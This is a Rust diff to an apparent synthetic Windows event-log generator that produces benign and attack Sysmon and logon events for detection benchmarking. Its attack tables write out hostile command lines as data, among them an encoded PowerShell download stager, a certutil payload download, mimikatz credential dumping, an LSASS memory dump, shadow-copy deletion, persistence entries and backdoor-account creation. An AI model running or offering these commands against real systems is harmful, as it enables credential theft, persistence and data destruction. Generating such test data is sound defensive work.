@@ -74,15 +74,38 @@ fn mix(mut z: u64) -> u64 {
 }
 
 fn fnv(s: &str) -> u64 {
-    s.bytes().fold(0xcbf2_9ce4_8422_2325, |h, b| (h ^ b as u64).wrapping_mul(0x100_0000_01b3))
+    s.bytes().fold(0xcbf2_9ce4_8422_2325, |h, b| {
+        (h ^ b as u64).wrapping_mul(0x100_0000_01b3)
+    })
 }
 
 // ── pools ────────────────────────────────────────────────────────────────
 
 const USERS: &[&str] = &[
-    "alice.martin", "bob.nguyen", "carol.smith", "dave.okafor", "erin.kowalski", "frank.li", "grace.obrien", "heidi.schmidt",
-    "ivan.petrov", "judy.tanaka", "karl.jensen", "laura.rossi", "mallory.king", "nina.haddad", "oscar.silva", "peggy.dubois",
-    "quentin.moreau", "rita.costa", "sam.wilson", "trent.baker", "uma.patel", "victor.hugo", "wendy.clark", "xavier.lopez",
+    "alice.martin",
+    "bob.nguyen",
+    "carol.smith",
+    "dave.okafor",
+    "erin.kowalski",
+    "frank.li",
+    "grace.obrien",
+    "heidi.schmidt",
+    "ivan.petrov",
+    "judy.tanaka",
+    "karl.jensen",
+    "laura.rossi",
+    "mallory.king",
+    "nina.haddad",
+    "oscar.silva",
+    "peggy.dubois",
+    "quentin.moreau",
+    "rita.costa",
+    "sam.wilson",
+    "trent.baker",
+    "uma.patel",
+    "victor.hugo",
+    "wendy.clark",
+    "xavier.lopez",
 ];
 const DOMAIN: &str = "CORP";
 const DOMAIN_FQDN: &str = "corp.example.com";
@@ -146,7 +169,7 @@ const BENIGN_PROCS: &[Proc] = &[
 const ATTACK_PROCS: &[Proc] = &[
     Proc { image: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", ofn: "PowerShell.EXE", desc: "Windows PowerShell", product: WINOS, company: MS, cmd: "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhACcAKQA=", parent: r"C:\Windows\System32\cmd.exe", parent_cmd: r#"cmd.exe /c start /b powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"#, system: false },
     Proc { image: r"C:\Windows\System32\certutil.exe", ofn: "CertUtil.exe", desc: "CertUtil.exe", product: WINOS, company: MS, cmd: r"certutil.exe -urlcache -split -f http://198.51.100.7/payload.exe C:\Users\Public\svc.exe", parent: r"C:\Windows\System32\cmd.exe", parent_cmd: r#""C:\Windows\system32\cmd.exe" "#, system: false },
-    Proc { image: r"C:\Windows\System32\rundll32.exe", ofn: "RUNDLL32.EXE", desc: "Windows host process (Rundll32)", product: WINOS, company: MS, cmd: r"rundll32.exe C:\Users\{u}\AppData\Local\Temp\upd{n}.dll,DllRegisterServer", parent: r"C:\Windows\System32\cmd.exe", parent_cmd: r#""C:\Windows\system32\cmd.exe" "#, system: false },
+    Proc { image: r"C:\Users\{u}\AppData\Local\Temp\svchost.exe", ofn: "RUNDLL32.EXE", desc: "Windows host process (Rundll32)", product: WINOS, company: MS, cmd: r"svchost.exe C:\Users\{u}\AppData\Local\Temp\upd{n}.dll,DllRegisterServer", parent: r"C:\Windows\System32\cmd.exe", parent_cmd: r#""C:\Windows\system32\cmd.exe" "#, system: false },
     Proc { image: r"C:\Windows\System32\reg.exe", ofn: "reg.exe", desc: "Registry Console Tool", product: WINOS, company: MS, cmd: r#"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /t REG_SZ /d "C:\Users\Public\svc.exe" /f"#, parent: r"C:\Windows\System32\cmd.exe", parent_cmd: r#""C:\Windows\system32\cmd.exe" "#, system: false },
     Proc { image: r"C:\Windows\System32\vssadmin.exe", ofn: "VSSADMIN.EXE", desc: "Command Line Interface for Microsoft\u{ae} Volume Shadow Copy Service ", product: WINOS, company: MS, cmd: "vssadmin.exe delete shadows /all /quiet", parent: r"C:\Windows\System32\cmd.exe", parent_cmd: r"cmd.exe /c vssadmin.exe delete shadows /all /quiet", system: false },
     Proc { image: r"C:\Users\{u}\Downloads\mimikatz.exe", ofn: "mimikatz.exe", desc: "mimikatz for Windows", product: "mimikatz", company: "gentilkiwi (Benjamin DELPY)", cmd: r#"mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit"#, parent: r"C:\Windows\System32\cmd.exe", parent_cmd: r#""C:\Windows\system32\cmd.exe" "#, system: false },
@@ -155,7 +178,7 @@ const ATTACK_PROCS: &[Proc] = &[
     Proc { image: r"C:\Windows\System32\net.exe", ofn: "net.exe", desc: "Net Command", product: WINOS, company: MS, cmd: "net.exe user support_{n} P@ssw0rd! /add", parent: r"C:\Windows\System32\cmd.exe", parent_cmd: r#""C:\Windows\system32\cmd.exe" "#, system: false },
     Proc { image: r"C:\Windows\System32\schtasks.exe", ofn: "schtasks.exe", desc: "Task Scheduler Configuration Tool", product: WINOS, company: MS, cmd: r#"schtasks.exe /create /sc minute /mo 5 /tn "OneDriveUpdate" /tr "C:\Users\Public\svc.exe" /ru SYSTEM /f"#, parent: r"C:\Windows\System32\cmd.exe", parent_cmd: r#""C:\Windows\system32\cmd.exe" "#, system: false },
     Proc { image: r"C:\Windows\System32\mshta.exe", ofn: "MSHTA.EXE", desc: "Microsoft (R) HTML Application host", product: "Internet Explorer", company: MS, cmd: r#"mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -nop -w hidden"":close")"#, parent: r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", parent_cmd: r#""C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\{u}\Downloads\invoice.doc""#, system: false },
-    Proc { image: r"C:\Windows\System32\cmd.exe", ofn: "Cmd.Exe", desc: "Windows Command Processor", product: WINOS, company: MS, cmd: "cmd.exe /c whoami /all && net group \"domain admins\" /domain", parent: r"C:\Windows\System32\wbem\WmiPrvSE.exe", parent_cmd: r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", system: false },
+    Proc { image: r"C:\Windows\System32\cmd.exe", ofn: "Cmd.Exe", desc: "Windows Command Processor", product: WINOS, company: MS, cmd: r"cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1772438{n}.54 2>&1", parent: r"C:\Windows\System32\wbem\WmiPrvSE.exe", parent_cmd: r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", system: false },
     Proc { image: r"C:\Windows\System32\bcdedit.exe", ofn: "bcdedit.exe", desc: "Boot Configuration Data Editor", product: WINOS, company: MS, cmd: "bcdedit.exe /set {default} recoveryenabled No", parent: r"C:\Windows\System32\cmd.exe", parent_cmd: r#""C:\Windows\system32\cmd.exe" "#, system: false },
     Proc { image: r"C:\Windows\System32\rundll32.exe", ofn: "RUNDLL32.EXE", desc: "Windows host process (Rundll32)", product: WINOS, company: MS, cmd: r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 672 C:\Windows\Temp\lsass.dmp full", parent: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", parent_cmd: r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" "#, system: false },
 ];
@@ -188,8 +211,8 @@ const ATTACK_FILES: &[FileCreate] = &[
     FileCreate { image: r"C:\Windows\System32\rundll32.exe", target: r"C:\Windows\Temp\lsass.dmp" },
     FileCreate { image: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", target: r"C:\Users\{u}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\updater.vbs" },
     FileCreate { image: r"C:\Windows\System32\certutil.exe", target: r"C:\Users\Public\svc.exe" },
-    FileCreate { image: r"C:\Users\{u}\Downloads\mimikatz.exe", target: r"C:\Users\{u}\Downloads\mimikatz.log" },
-    FileCreate { image: r"C:\Windows\System32\cmd.exe", target: r"C:\Windows\System32\Tasks\OneDriveUpdate" },
+    FileCreate { image: r"C:\Windows\System32\lsass.exe", target: r"C:\Windows\System32\mimilsa.log" },
+    FileCreate { image: r"C:\Users\{u}\AppData\Local\Temp\svc.exe", target: r"C:\Windows\System32\Tasks\OneDriveUpdate" },
     FileCreate { image: r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", target: r"C:\Users\{u}\AppData\Local\Temp\invoice{n}.hta" },
 ];
 
@@ -248,7 +271,7 @@ const BENIGN_CONNS: &[Conn] = &[
 const ATTACK_CONNS: &[Conn] = &[
     Conn { image: r"C:\Windows\System32\rundll32.exe", dst: &["198.51.100.7"], host: "", port: 4444, initiated: true },
     Conn { image: r"C:\Windows\System32\certutil.exe", dst: &["198.51.100.7"], host: "", port: 80, initiated: true },
-    Conn { image: r"C:\Windows\System32\mshta.exe", dst: &["203.0.113.50"], host: "cdn-update.example.net", port: 443, initiated: true },
+    Conn { image: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", dst: &["149.154.167.220"], host: "api.telegram.org", port: 443, initiated: true },
     Conn { image: r"C:\Windows\System32\regsvr32.exe", dst: &["203.0.113.50"], host: "", port: 443, initiated: true },
 ];
 
@@ -257,12 +280,14 @@ const ATTACK_CONNS: &[Conn] = &[
 struct Obj<'a> {
     out: &'a mut String,
     first: bool,
+    /// Objects opened by a Winlogbeat header, closed with the event.
+    nested: usize,
 }
 
 impl<'a> Obj<'a> {
     fn open(out: &'a mut String) -> Self {
         out.push('{');
-        Obj { out, first: true }
+        Obj { out, first: true, nested: 0 }
     }
 
     fn key(&mut self, k: &str) {
@@ -293,8 +318,26 @@ impl<'a> Obj<'a> {
         self
     }
 
-    fn close(self) {
+    /// Opens a nested object under `k`; its members follow.
+    fn nest(&mut self, k: &str) -> &mut Self {
+        self.key(k);
+        self.out.push('{');
+        self.first = true;
+        self.nested += 1;
+        self
+    }
+
+    /// Closes the innermost nested object.
+    fn unnest(&mut self) -> &mut Self {
         self.out.push('}');
+        self.nested -= 1;
+        self
+    }
+
+    fn close(self) {
+        for _ in 0..=self.nested {
+            self.out.push('}');
+        }
     }
 }
 
@@ -336,10 +379,35 @@ const START_US: i64 = 1_772_438_400_000_000;
 
 // ── the generator ────────────────────────────────────────────────────────
 
+/// How events are laid out.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
+pub enum Shape {
+    /// Flat evtx JSON: System fields and EventData fields at top level
+    /// (`benches/windows-flat.toml`).
+    #[default]
+    Flat,
+    /// Winlogbeat: `winlog.channel`, `winlog.event_id`, … with the EventData
+    /// fields under `winlog.event_data` (`samples/tocsin.toml`).
+    Winlogbeat,
+}
+
+impl std::str::FromStr for Shape {
+    type Err = String;
+
+    fn from_str(s: &str) -> Result<Self, String> {
+        match s {
+            "flat" => Ok(Shape::Flat),
+            "winlogbeat" => Ok(Shape::Winlogbeat),
+            other => Err(format!("unknown shape `{other}` (expected flat or winlogbeat)")),
+        }
+    }
+}
+
 /// The event stream. Same seed, same stream.
 pub struct EventGen {
     rng: Rng,
     attack_rate: f64,
+    shape: Shape,
     record_id: u64,
     time_us: i64,
     hosts: Vec<String>,
@@ -372,14 +440,23 @@ impl EventGen {
 
     pub fn with_attack_rate(seed: u64, attack_rate: f64) -> Self {
         let mut rng = Rng::new(seed);
-        let hosts = (0..400).map(|_| format!("WS-{:04}.{DOMAIN_FQDN}", rng.range(1, 9999))).collect();
+        let hosts = (0..400)
+            .map(|_| format!("WS-{:04}.{DOMAIN_FQDN}", rng.range(1, 9999)))
+            .collect();
         EventGen {
             rng,
             attack_rate,
+            shape: Shape::Flat,
             record_id: 1_000_000 + (seed % 1000) * 10_000,
             time_us: START_US,
             hosts,
         }
+    }
+
+    /// Lays events out as `shape` (default [`Shape::Flat`]).
+    pub fn with_shape(mut self, shape: Shape) -> Self {
+        self.shape = shape;
+        self
     }
 
     /// The next event as one JSON line (no newline).
@@ -483,22 +560,45 @@ impl EventGen {
 
     fn header(&mut self, obj: &mut Obj<'_>, eid: u64, channel: &str, computer: &str, provider: &str) {
         let (ts, _) = self.timestamp();
-        obj.n("EventID", eid)
-            .s("Channel", channel)
-            .s("Computer", computer)
-            .s("Provider_Name", provider)
-            .n("EventRecordID", self.record_id)
-            .s("@timestamp", &ts);
+        match self.shape {
+            Shape::Flat => {
+                obj.n("EventID", eid)
+                    .s("Channel", channel)
+                    .s("Computer", computer)
+                    .s("Provider_Name", provider)
+                    .n("EventRecordID", self.record_id)
+                    .s("@timestamp", &ts);
+            }
+            Shape::Winlogbeat => {
+                let host = computer.split('.').next().unwrap_or_default();
+                obj.s("@timestamp", &ts).nest("host").s("name", host).unnest();
+                obj.nest("event").s("code", &eid.to_string()).s("provider", provider).unnest();
+                obj.nest("winlog")
+                    .s("channel", channel)
+                    .n("event_id", eid)
+                    .s("computer_name", computer)
+                    .n("record_id", self.record_id)
+                    .s("provider_name", provider)
+                    .nest("event_data");
+            }
+        }
     }
 
     fn sysmon_common(&mut self, obj: &mut Obj<'_>) {
         let (_, utc) = self.timestamp();
         let guid = self.guid();
-        obj.s("RuleName", "-").s("UtcTime", &utc).s("ProcessGuid", &guid).n("ProcessId", self.rng.range(800, 24_000));
+        obj.s("RuleName", "-")
+            .s("UtcTime", &utc)
+            .s("ProcessGuid", &guid)
+            .n("ProcessId", self.rng.range(800, 24_000));
     }
 
     fn process(&mut self, out: &mut String, attack: bool) {
-        let p = if attack { self.rng.pick(ATTACK_PROCS) } else { self.rng.pick(BENIGN_PROCS) };
+        let p = if attack {
+            self.rng.pick(ATTACK_PROCS)
+        } else {
+            self.rng.pick(BENIGN_PROCS)
+        };
         let computer = self.workstation();
         let (u, sid) = self.user();
         let image = self.fill(p.image, u, &sid);
@@ -516,7 +616,13 @@ impl EventGen {
             format!("C:\\Users\\{u}\\")
         };
         let h = mix(fnv(p.image) ^ fnv(p.cmd));
-        let hashes = format!("SHA256={:016X}{:016X}{:016X}{:016X}", h, mix(h ^ 1), mix(h ^ 2), mix(h ^ 3));
+        let hashes = format!(
+            "SHA256={:016X}{:016X}{:016X}{:016X}",
+            h,
+            mix(h ^ 1),
+            mix(h ^ 2),
+            mix(h ^ 3)
+        );
         let mut o = Obj::open(out);
         self.header(&mut o, 1, SYSMON, &computer, SYSMON_PROVIDER);
         self.sysmon_common(&mut o);
@@ -537,7 +643,11 @@ impl EventGen {
     }
 
     fn file(&mut self, out: &mut String, attack: bool) {
-        let f = if attack { self.rng.pick(ATTACK_FILES) } else { self.rng.pick(BENIGN_FILES) };
+        let f = if attack {
+            self.rng.pick(ATTACK_FILES)
+        } else {
+            self.rng.pick(BENIGN_FILES)
+        };
         let computer = self.workstation();
         let (u, sid) = self.user();
         let image = self.fill(f.image, u, &sid);
@@ -547,12 +657,19 @@ impl EventGen {
         let mut o = Obj::open(out);
         self.header(&mut o, 11, SYSMON, &computer, SYSMON_PROVIDER);
         self.sysmon_common(&mut o);
-        o.s("Image", &image).s("TargetFilename", &target).s("CreationUtcTime", &created).s("User", &user);
+        o.s("Image", &image)
+            .s("TargetFilename", &target)
+            .s("CreationUtcTime", &created)
+            .s("User", &user);
         o.close();
     }
 
     fn registry(&mut self, out: &mut String, attack: bool) {
-        let r = if attack { self.rng.pick(ATTACK_REGS) } else { self.rng.pick(BENIGN_REGS) };
+        let r = if attack {
+            self.rng.pick(ATTACK_REGS)
+        } else {
+            self.rng.pick(BENIGN_REGS)
+        };
         let computer = self.workstation();
         let (u, sid) = self.user();
         let image = self.fill(r.image, u, &sid);
@@ -579,7 +696,11 @@ impl EventGen {
     }
 
     fn network(&mut self, out: &mut String, attack: bool) {
-        let c = if attack { self.rng.pick(ATTACK_CONNS) } else { self.rng.pick(BENIGN_CONNS) };
+        let c = if attack {
+            self.rng.pick(ATTACK_CONNS)
+        } else {
+            self.rng.pick(BENIGN_CONNS)
+        };
         let computer = self.workstation();
         let (u, sid) = self.user();
         let image = self.fill(c.image, u, &sid);
@@ -611,29 +732,78 @@ impl EventGen {
         let dc = format!("DC0{}.{DOMAIN_FQDN}", self.rng.range(1, 2));
         let (u, sid) = self.user();
         // (logon type, process, package, source ip, workstation, user)
-        let (ltype, proc_name, pkg, ip, ws, user, user_sid): (u64, &str, &str, String, String, String, String) = if attack {
-            match self.rng.below(3) {
-                // RDP from the loopback: tunnelled RDP.
-                0 => (10, "User32 ", "Negotiate", "127.0.0.1".into(), self.short_ws(), u.to_string(), sid),
-                // Overpass-the-hash: seclogo with Negotiate, logon type 9.
-                1 => (9, "seclogo", "Negotiate", "::1".into(), self.short_ws(), u.to_string(), sid),
-                // NTLM network logon with a null key from an unknown host.
-                _ => (3, "NtLmSsp ", "NTLM", "203.0.113.77".into(), "kali".into(), "Administrator".into(), "S-1-5-21-3623811015-3361044348-30300820-500".into()),
-            }
-        } else {
-            match self.rng.below(10) {
-                0..=5 => {
-                    let ip = format!("10.20.{}.{}", self.rng.range(0, 15), self.rng.range(2, 254));
-                    (3, "Kerberos", "Kerberos", ip, "-".into(), u.to_string(), sid)
+        let (ltype, proc_name, pkg, ip, ws, user, user_sid): (u64, &str, &str, String, String, String, String) =
+            if attack {
+                match self.rng.below(3) {
+                    // RDP from the loopback: tunnelled RDP.
+                    0 => (
+                        10,
+                        "User32 ",
+                        "Negotiate",
+                        "127.0.0.1".into(),
+                        self.short_ws(),
+                        u.to_string(),
+                        sid,
+                    ),
+                    // Overpass-the-hash: seclogo with Negotiate, logon type 9.
+                    1 => (
+                        9,
+                        "seclogo",
+                        "Negotiate",
+                        "::1".into(),
+                        self.short_ws(),
+                        u.to_string(),
+                        sid,
+                    ),
+                    // NTLM network logon with a null key from an unknown host.
+                    _ => (
+                        3,
+                        "NtLmSsp ",
+                        "NTLM",
+                        "203.0.113.77".into(),
+                        "kali".into(),
+                        "Administrator".into(),
+                        "S-1-5-21-3623811015-3361044348-30300820-500".into(),
+                    ),
                 }
-                6 | 7 => (5, "Advapi  ", "Negotiate", "-".into(), "-".into(), "SYSTEM".into(), "S-1-5-18".into()),
-                8 => {
-                    let server = *self.rng.pick(SERVERS);
-                    (3, "Kerberos", "Kerberos", format!("10.1.0.{}", self.rng.range(20, 60)), "-".into(), format!("{server}$"), "S-1-5-21-3623811015-3361044348-30300820-2201".into())
+            } else {
+                match self.rng.below(10) {
+                    0..=5 => {
+                        let ip = format!("10.20.{}.{}", self.rng.range(0, 15), self.rng.range(2, 254));
+                        (3, "Kerberos", "Kerberos", ip, "-".into(), u.to_string(), sid)
+                    }
+                    6 | 7 => (
+                        5,
+                        "Advapi  ",
+                        "Negotiate",
+                        "-".into(),
+                        "-".into(),
+                        "SYSTEM".into(),
+                        "S-1-5-18".into(),
+                    ),
+                    8 => {
+                        let server = *self.rng.pick(SERVERS);
+                        (
+                            3,
+                            "Kerberos",
+                            "Kerberos",
+                            format!("10.1.0.{}", self.rng.range(20, 60)),
+                            "-".into(),
+                            format!("{server}$"),
+                            "S-1-5-21-3623811015-3361044348-30300820-2201".into(),
+                        )
+                    }
+                    _ => (
+                        2,
+                        "User32 ",
+                        "Negotiate",
+                        "127.0.0.1".into(),
+                        self.short_ws(),
+                        u.to_string(),
+                        sid,
+                    ),
                 }
-                _ => (2, "User32 ", "Negotiate", "127.0.0.1".into(), self.short_ws(), u.to_string(), sid),
-            }
-        };
+            };
         let port = if ip == "-" { 0 } else { self.rng.range(49_152, 65_535) };
         let mut o = Obj::open(out);
         self.header(&mut o, 4624, "Security", &dc, "Microsoft-Windows-Security-Auditing");
@@ -642,8 +812,14 @@ impl EventGen {
             .s("SubjectLogonId", if ltype == 3 { "0x0" } else { "0x3e7" })
             .s("TargetUserSid", &user_sid)
             .s("TargetUserName", &user)
-            .s("TargetDomainName", if user == "SYSTEM" { "NT AUTHORITY" } else { DOMAIN })
-            .s("TargetLogonId", &format!("0x{:x}", self.rng.range(0x10_0000, 0xfff_ffff)))
+            .s(
+                "TargetDomainName",
+                if user == "SYSTEM" { "NT AUTHORITY" } else { DOMAIN },
+            )
+            .s(
+                "TargetLogonId",
+                &format!("0x{:x}", self.rng.range(0x10_0000, 0xfff_ffff)),
+            )
             .n("LogonType", ltype)
             .s("LogonProcessName", proc_name)
             .s("AuthenticationPackageName", pkg)
@@ -651,7 +827,14 @@ impl EventGen {
             .s("LmPackageName", if pkg == "NTLM" { "NTLM V2" } else { "-" })
             .n("KeyLength", if pkg == "NTLM" && !attack { 128 } else { 0 })
             .s("ProcessId", if ltype == 3 { "0x0" } else { "0x2a4" })
-            .s("ProcessName", if ltype == 3 { "-" } else { r"C:\Windows\System32\lsass.exe" })
+            .s(
+                "ProcessName",
+                if ltype == 3 {
+                    "-"
+                } else {
+                    r"C:\Windows\System32\lsass.exe"
+                },
+            )
             .s("IpAddress", &ip)
             .s("IpPort", &port.to_string());
         o.close();
@@ -668,7 +851,12 @@ impl EventGen {
         let ws = self.short_ws();
         // Attacks: logons to disabled / expired / restricted accounts.
         let (status, sub) = if attack {
-            *self.rng.pick(&[("0xc000006e", "0xc0000072"), ("0xc000006e", "0xc0000070"), ("0xc000006e", "0xc000006f"), ("0xc000015b", "0x0")])
+            *self.rng.pick(&[
+                ("0xc000006e", "0xc0000072"),
+                ("0xc000006e", "0xc0000070"),
+                ("0xc000006e", "0xc000006f"),
+                ("0xc000015b", "0x0"),
+            ])
         } else {
             ("0xc000006d", "0xc000006a")
         };
@@ -696,16 +884,15 @@ impl EventGen {
     }
 }
 
-/// `n` events from `seed`, one JSON object per string.
+/// `n` flat events from `seed` at the default attack rate, one JSON object per string.
 pub fn events(seed: u64, n: usize) -> Vec<String> {
     let mut g = EventGen::new(seed);
     (0..n).map(|_| g.next_event()).collect()
 }
 
-/// Writes `n` events from `seed` as NDJSON to `path`; returns the bytes written.
-pub fn write_ndjson(path: &Path, n: u64, seed: u64, attack_rate: f64) -> io::Result<u64> {
+/// Writes the next `n` events of `g` as NDJSON to `path`; returns the bytes written.
+pub fn write_ndjson(path: &Path, n: u64, mut g: EventGen) -> io::Result<u64> {
     let mut w = BufWriter::with_capacity(1 << 20, std::fs::File::create(path)?);
-    let mut g = EventGen::with_attack_rate(seed, attack_rate);
     let mut line = String::with_capacity(2048);
     let mut bytes = 0u64;
     for _ in 0..n {
